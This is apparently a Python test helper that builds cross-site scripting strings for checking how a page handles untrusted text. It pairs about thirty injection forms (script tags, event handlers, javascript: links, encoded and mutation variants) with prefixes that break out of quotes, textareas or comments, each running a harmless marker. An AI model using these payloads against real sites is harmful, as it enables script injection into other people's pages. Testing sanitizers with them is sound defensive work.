"""Texts that become something else where a page takes text for HTML, a link or a script."""

from itertools import islice, product

WITNESS = "window.hacked=1"
# What runs, in forms that filters have let through; {} is the witness.
FORMS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<a href=javascript:{} autofocus>here</a>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}>",
    "<form><button formaction=javascript:{}>go</button></form>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'http://127.0.0.1:9/x.css';</style><b onmouseover={}>b</b>",
    "<link rel=stylesheet href=http://127.0.0.1:9/y.css onload={}>",
    "[here](javascript:{})",
    "![x](http://127.0.0.1:9/leak.png) <b>{}</b>",
    "$\\href{{javascript:{}}}{{x}}$",
    "{{{{constructor.constructor('{}')()}}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\\u003cimg src=x onerror={}\\u003e",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<base href=http://127.0.0.1:9/><script>{}</script>",
    "<img src=http://127.0.0.1:9/z.png onerror={}>",
    "<xmp><img src=x onerror={}></xmp>",
)
# What they stand in, so that a quote or an end tag opens the way.
PLACES = ("{}", "'\">{}", "</textarea>{}", "--><![CDATA[{}]]>", "``` {}")


def hostile_texts(num: int) -> list[str]:
    """So many, of each form one before any form comes again."""
    both = ((form, place) for place, form in product(PLACES, FORMS))
    return [place.format(form.format(WITNESS)) for form, place in islice(both, num)]
